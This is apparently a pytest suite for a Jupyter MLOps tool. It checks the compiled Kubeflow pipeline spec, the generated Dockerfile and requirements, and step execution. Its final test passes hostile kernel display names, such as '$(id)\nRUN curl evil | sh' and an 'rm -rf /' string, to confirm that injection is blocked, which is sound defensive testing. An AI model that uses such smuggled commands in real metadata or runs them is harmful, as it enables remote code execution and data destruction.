"""Kubeflow Pipelines: the compiled KFP v2 spec, the image files, and the step wrapper run."""

from __future__ import annotations

import json
import os
import posixpath
import re
import shutil
import subprocess
import sys
from importlib.metadata import version
from pathlib import Path
from typing import Any

import numpy as np
import pytest

pytest.importorskip("kfp")

import yaml
from conftest import write_notebook
from google.protobuf import json_format
from kfp.pipeline_spec import pipeline_spec_pb2

from jupyter_mlops.deploy.kfp_pipeline import (
    INPUT_PREFIX,
    OUTPUT_ARTIFACT,
    RUN_FOLDER,
    compile_pipeline,
    kfp_name,
)
from jupyter_mlops.deploy.runtime_wheel import wheel_name
from jupyter_mlops.errors import MlopsError, SpecError
from jupyter_mlops.pipeline.export import export
from jupyter_mlops.pipeline.spec import PipelineSpec

CELLS = (
    "%load_ext jupyter_mlops",
    "%%mlops setup\nimport numpy as np\nfrom sklearn.linear_model import LogisticRegression\n"
    "import helpers",
    "%%mlops params\nn_rows: int = 40  # rows to make\nnoise = 0.5\nlabel = 'churn'\n"
    "balanced = True\nfeatures = ['a', 'b']\noptions = {'C': 1.0}",
    # data and a helper module beside the notebook, read relative to its folder
    "%%mlops step load\nrng = np.random.default_rng(0)\n"
    "X = helpers.scaled(rng.normal(size=(n_rows, len(features))), noise)\n"
    "X = X * np.loadtxt('data/weights.txt')\ny = (X[:, 0] > 0).astype(int)",
    "%%mlops step train_model\nmodel = LogisticRegression(C=options['C'], "
    "class_weight='balanced' if balanced else None).fit(X, y)",
    "%%mlops model model",
    "%%mlops step summary --after train_model\nsummary = f'{label}: {len(X)} rows'",
    "%%mlops step evaluate\naccuracy = float(model.score(X, y))",
    "%mlops metrics accuracy",
)
IMAGE = "registry.example/churn:1"
HELPERS = "import scipy\n\n\ndef scaled(x, noise):\n    return x * noise\n"


def output_path() -> str:
    """KFP's placeholder of the path of a component's output artifact."""
    return "{{$.outputs.artifacts['" + OUTPUT_ARTIFACT + "'].path}}"


def input_path(producer: str) -> str:
    return "{{$.inputs.artifacts['" + INPUT_PREFIX + producer + "'].path}}"


def parameter(name: str) -> str:
    return "{{$.inputs.parameters['" + name + "']}}"


@pytest.fixture(scope="module")
def compiled(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The example-like notebook exported and compiled once for the module."""
    root = tmp_path_factory.mktemp("kfp")
    (root / "helpers.py").write_text(HELPERS)
    (root / "data").mkdir()
    (root / "data" / "weights.txt").write_text("1.0 2.0\n")
    (root / "data" / "unused.csv").write_text("not read by any step\n")
    # named only by the default of the step notebooks' own `mlops_artifacts` parameter
    (root / "artifacts").mkdir()
    (root / "artifacts" / "old.bin").write_bytes(b"0" * 1000)
    outside = tmp_path_factory.mktemp("elsewhere") / "lookup.txt"
    outside.write_text("x\n")
    cells = list(CELLS)
    cells[6] = cells[6] + f"\nsource = {str(outside)!r}"  # summary names an absolute file
    notebook = write_notebook(root / "churn.ipynb", *cells)
    folder = export(notebook).folder
    (folder / "runs").mkdir()  # the history of local runs stays out of the image
    (folder / "runs" / "big.bin").write_bytes(b"0" * 1000)
    output = root / "kfp" / "pipeline.yaml"
    paths = compile_pipeline(folder, output, image=IMAGE)
    documents = list(yaml.safe_load_all(output.read_text()))
    pipeline = json_format.ParseDict(documents[0], pipeline_spec_pb2.PipelineSpec())
    return {"folder": folder, "output": output, "paths": paths, "pipeline": pipeline,
            "spec": PipelineSpec.read(folder), "raw": documents[0], "root": root,
            "outside": str(outside)}


def _tasks(pipeline: Any) -> dict[str, Any]:
    """The root DAG's tasks by the step name each shows (its display name)."""
    return {task.task_info.name: task for task in pipeline.root.dag.tasks.values()}


def _container(compiled: dict[str, Any], step: str) -> dict[str, Any]:
    pipeline = compiled["pipeline"]
    component = pipeline.components[_tasks(pipeline)[step].component_ref.name]
    executors = compiled["raw"]["deploymentSpec"]["executors"]
    return executors[component.executor_label]["container"]


def test_writes_the_pipeline_dockerfile_and_requirements(compiled: dict[str, Any]) -> None:
    output = compiled["output"]
    assert compiled["paths"] == [output, output.parent / "Dockerfile",
                                 output.parent / "requirements.txt",
                                 output.parent / wheel_name()]
    assert all(p.is_file() for p in compiled["paths"])
    assert compiled["pipeline"].schema_version == "2.1.0"
    assert compiled["pipeline"].pipeline_info.name == "churn"


def test_one_task_per_step_with_the_dependencies_of_the_spec(compiled: dict[str, Any]) -> None:
    spec, pipeline = compiled["spec"], compiled["pipeline"]
    assert [s.name for s in spec.steps] == ["load", "train_model", "summary", "evaluate"]
    tasks = _tasks(pipeline)
    assert set(tasks) == {s.name for s in spec.steps}
    assert len(pipeline.components) == len(spec.steps)
    task_names = {name: key for key, task in pipeline.root.dag.tasks.items()
                  for name in [task.task_info.name]}
    assert task_names == {s.name: kfp_name(s.name) for s in spec.steps}
    for step in spec.steps:
        assert sorted(tasks[step.name].dependent_tasks) == sorted(
            task_names[a] for a in step.after), step.name
    # `--after train_model` with no data from it is still an edge
    assert spec.step("summary").after == ["load", "train_model"]


def test_pipeline_parameters_are_typed_with_the_spec_defaults(compiled: dict[str, Any]) -> None:
    types = pipeline_spec_pb2.ParameterType
    params = compiled["pipeline"].root.input_definitions.parameters
    expected = {
        "n_rows": (types.NUMBER_INTEGER, 40),
        "noise": (types.NUMBER_DOUBLE, 0.5),
        "label": (types.STRING, "churn"),
        "balanced": (types.BOOLEAN, True),
        "features": (types.STRING, '["a", "b"]'),  # list and dict travel as JSON text
        "options": (types.STRING, '{"C": 1.0}'),
    }
    assert set(params) == set(expected)
    for name, (kind, default) in expected.items():
        assert params[name].parameter_type == kind, name
        assert json_format.MessageToDict(params[name].default_value) == default, name
    assert params["n_rows"].description == "rows to make"  # the help of the params cell


def test_input_artifacts_come_from_the_producing_tasks(compiled: dict[str, Any]) -> None:
    spec, pipeline = compiled["spec"], compiled["pipeline"]
    tasks = _tasks(pipeline)
    for step in spec.steps:
        task = tasks[step.name]
        producers = set(step.inputs.values())
        assert set(task.inputs.artifacts) == {INPUT_PREFIX + p for p in producers}, step.name
        for producer in producers:
            wired = task.inputs.artifacts[INPUT_PREFIX + producer].task_output_artifact
            assert wired.producer_task == kfp_name(producer)
            assert wired.output_artifact_key == OUTPUT_ARTIFACT
        # each step's parameters come from the pipeline's, by the same name
        assert {n: p.component_input_parameter for n, p in task.inputs.parameters.items()} \
            == {n: n for n in step.parameters}
    assert spec.step("evaluate").inputs == {"X": "load", "y": "load", "model": "train_model"}


def test_artifact_types_follow_the_output_roles(compiled: dict[str, Any]) -> None:
    pipeline = compiled["pipeline"]
    tasks = _tasks(pipeline)

    def component(step: str) -> Any:
        return pipeline.components[tasks[step].component_ref.name]

    def kind(step: str) -> str:
        outputs = component(step).output_definitions.artifacts
        assert list(outputs) == [OUTPUT_ARTIFACT]  # one artifact: the step's artifacts folder
        return outputs[OUTPUT_ARTIFACT].artifact_type.schema_title

    assert kind("load") == "system.Dataset"
    assert kind("train_model") == "system.Model"
    assert kind("evaluate") == "system.Dataset"
    inputs = component("evaluate").input_definitions.artifacts
    assert inputs[INPUT_PREFIX + "load"].artifact_type.schema_title == "system.Dataset"
    assert inputs[INPUT_PREFIX + "train_model"].artifact_type.schema_title == "system.Model"


def test_the_command_runs_papermill_on_the_step_notebook(compiled: dict[str, Any]) -> None:
    container = _container(compiled, "train_model")
    assert container["image"] == IMAGE
    command, args = container["command"], container["args"]
    assert command[:2] == ["sh", "-c"]
    script = command[2]
    assert 'ln -s "$1" "$run/artifacts/"train_model' in script
    assert 'ln -s "$2" "$run/artifacts/"load' in script
    assert args[:2] == [output_path(), input_path("load")]
    papermill = args[2:]
    assert papermill[:3] == ["papermill", "/mlops/churn_pipeline/steps/02_train_model.ipynb",
                             f"{RUN_FOLDER}/steps/02_train_model.ipynb"]
    # the kernel works where a local run has it work: the notebook's folder, in the image
    assert papermill[papermill.index("--cwd") + 1] == "/mlops"

    def flag(name: str) -> list[str]:
        for i, arg in enumerate(papermill):
            if arg in ("-p", "-r") and papermill[i + 1] == name:
                return papermill[i:i + 3]
            if arg == "-y" and papermill[i + 1].startswith(f"{name}: "):
                return papermill[i:i + 2]
        raise AssertionError(f"no flag for {name} in {papermill}")

    assert flag("mlops_artifacts") == ["-r", "mlops_artifacts", f"{RUN_FOLDER}/artifacts"]
    assert flag("mlops_pipeline") == ["-r", "mlops_pipeline", "/mlops/churn_pipeline"]
    assert flag("mlops_step") == ["-r", "mlops_step", "train_model"]
    assert flag("mlops_fail_on_drift") == ["-p", "mlops_fail_on_drift", "False"]
    assert flag("balanced") == ["-y", f"balanced: {parameter('balanced')}"]
    assert flag("options") == ["-y", f"options: {parameter('options')}"]
    load = _container(compiled, "load")["args"]
    assert "/mlops/churn_pipeline/steps/01_load.ipynb" in load
    n_rows = load.index("n_rows")
    assert load[n_rows - 1:n_rows + 2] == ["-p", "n_rows", parameter("n_rows")]
    summary = _container(compiled, "summary")["args"]
    label = summary.index("label")
    assert summary[label - 1:label + 2] == ["-r", "label", parameter("label")]
    # only the parameters a step uses
    assert "n_rows" not in _container(compiled, "evaluate")["args"]


def _copies(dockerfile: str) -> dict[str, str]:
    """The Dockerfile's ``COPY ["SOURCE", ..., "TARGET"]`` lines as {target: source} (a
    folder target ending in ``/`` gets each source's name)."""
    lines = [json.loads(line.removeprefix("COPY ")) for line in dockerfile.splitlines()
             if line.startswith("COPY ")]
    return {(target + posixpath.basename(source) if target.endswith("/") else target): source
            for *sources, target in lines for source in sources}


def test_dockerfile_and_requirements(compiled: dict[str, Any]) -> None:
    folder = compiled["output"].parent
    requirements = (folder / "requirements.txt").read_text().splitlines()
    # scipy: imported by the helper module only
    for dist in ("numpy", "scikit-learn", "papermill", "ipykernel", "scipy"):
        assert f"{dist}=={version(dist)}" in requirements, dist
    # the kernel runtime, not the authoring tool (and not its Jupyter server, widgets...)
    assert requirements[1] == f"./{wheel_name()}"
    assert not any(line.startswith(("jupyter-mlops", "jupyter_server", "ipywidgets",
                                    "matplotlib")) for line in requirements)
    for dist in ("pyarrow", "skops"):  # what the runtime saves frames and models with
        assert f"{dist}=={version(dist)}" in requirements, dist
    assert not any(line.startswith("helpers") for line in requirements)
    dockerfile = (folder / "Dockerfile").read_text()
    assert f"FROM python:{sys.version_info.major}.{sys.version_info.minor}-slim" in dockerfile
    runs = [json.loads(line.removeprefix("RUN ")) for line in dockerfile.splitlines()
            if line.startswith("RUN ")]
    assert ["pip", "install", "--no-cache-dir", "-r", "requirements.txt"] in runs
    assert "WORKDIR /tmp/mlops-install" in dockerfile
    assert any(r[:6] == ["python", "-m", "ipykernel", "install", "--name", "python3"]
               for r in runs)
    pipeline = sorted(p.name for p in compiled["folder"].iterdir() if p.name != "runs")
    assert _copies(dockerfile) == {
        "/tmp/mlops-install/requirements.txt": "kfp/requirements.txt",
        f"/tmp/mlops-install/{wheel_name()}": f"kfp/{wheel_name()}",
        **{f"/mlops/churn_pipeline/{n}": f"churn_pipeline/{n}" for n in pipeline},
        # what the steps read beside the notebook, and nothing else of its folder
        "/mlops/data/weights.txt": "data/weights.txt",
        "/mlops/helpers.py": "helpers.py",
    }
    assert dockerfile.rstrip().endswith("WORKDIR /mlops")
    assert f"Not in the image (absolute paths the steps name; mount them): " \
        f"{compiled['outside']}" in dockerfile
    assert "cd .. && docker build -f kfp/Dockerfile -t registry.example/churn:1 ." in dockerfile


def _build(dockerfile: Path, image: Path) -> None:
    """What `docker build` would put under /mlops: the Dockerfile's own COPY lines, done
    here from the build context its header names (no Docker on these machines)."""
    text = dockerfile.read_text()
    context = dockerfile.parent / text.split("# The build context is ", 1)[1].split(" ", 1)[0]
    for target, source in _copies(text).items():
        if not target.startswith("/mlops"):
            continue
        destination = image / target.removeprefix("/mlops").lstrip("/")
        destination.parent.mkdir(parents=True, exist_ok=True)
        if (context / source).is_dir():
            shutil.copytree(context / source, destination)
        else:
            shutil.copy2(context / source, destination)


@pytest.mark.kernel
def test_the_step_commands_run_the_pipeline(compiled: dict[str, Any], tmp_path: Path) -> None:
    """Containers need Docker, which is not here: copy what the Dockerfile copies into a
    folder standing for the image's /mlops, then run each task's own command in order with
    the placeholders filled as KFP would. Only that folder is on the steps' paths, so the
    data file and the helper module must have been copied where the steps look."""
    spec = compiled["spec"]
    image, run, store = tmp_path / "image", tmp_path / "run", tmp_path / "kfp-artifacts"
    _build(compiled["output"].parent / "Dockerfile", image)
    values = {"n_rows": "40", "noise": "0.5", "label": "churn", "balanced": "true",
              "features": '["a", "b"]', "options": '{"C": 1.0}'}

    def local(text: str) -> str:
        text = text.replace(RUN_FOLDER, str(run))
        text = re.sub(r"^/mlops(?=/|$)", str(image), text)
        for name, value in values.items():
            text = text.replace(parameter(name), value)
        return text

    # the image's `papermill` is on its PATH; here it is this venv's
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    for step in spec.steps:
        container = _container(compiled, step.name)
        args = [local(a) for a in container["args"]]
        args[0] = str(store / step.name)
        for i, producer in enumerate(dict.fromkeys(step.inputs.values())):
            args[i + 1] = str(store / producer)
        assert args[args.index("--cwd") + 1] == str(image)
        assert not any("{{" in a for a in args), args
        proc = subprocess.run([*[local(c) for c in container["command"]], *args],
                              capture_output=True, text=True, timeout=300, check=False,
                              cwd=tmp_path, env=env)
        assert proc.returncode == 0, proc.stderr[-3000:]
    assert (store / "train_model" / "model.json").is_file()
    accuracy = json.loads((store / "evaluate" / "accuracy.json").read_text())
    assert accuracy["name"] == "accuracy"
    assert (run / "steps" / "04_evaluate.ipynb").is_file()
    # the weights file was read: the second feature is doubled (helpers scaled both by noise)
    x = np.load(store / "load" / "X.npy")
    expected = np.random.default_rng(0).normal(size=(40, 2)) * 0.5 * np.array([1.0, 2.0])
    np.testing.assert_allclose(x, expected)


def test_not_a_pipeline_folder(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match="not a pipeline folder"):
        compile_pipeline(tmp_path, tmp_path / "out.yaml", image=IMAGE)


def test_output_must_be_yaml(compiled: dict[str, Any], tmp_path: Path) -> None:
    with pytest.raises(MlopsError, match=r"name it \*\.yaml"):
        compile_pipeline(compiled["folder"], tmp_path / "out.json", image=IMAGE)
    assert not (tmp_path / "Dockerfile").exists()


@pytest.mark.parametrize("kernel", [
    {"name": "python3", "display_name": "$(id)\nRUN curl evil | sh"},
    {"name": "python3", "display_name": 'Py "3" `id` ; rm -rf /'},
])
def test_a_hostile_kernel_display_name_stays_one_word_of_one_instruction(
        tmp_path: Path, kernel: dict[str, str]) -> None:
    """Notebook metadata reaches the Dockerfile as JSON strings of an exec-form RUN: no shell
    reads them, and a newline cannot start another instruction."""
    from jupyter_mlops.deploy.kfp_image import ImageLayout, dockerfile

    spec = PipelineSpec("p", "p.ipynb", "0" * 64, ".", kernel, [], [])
    layout = ImageLayout(tmp_path, "/mlops/p_pipeline", "/mlops", (), ())
    text = dockerfile(layout, tmp_path / "kfp", spec, "image:1")
    instructions = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert all(line.split()[0] in ("FROM", "COPY", "RUN", "WORKDIR") for line in instructions)
    install = next(json.loads(line[4:]) for line in instructions if "ipykernel" in line)
    assert install[-2:] == ["--display-name", kernel["display_name"]]
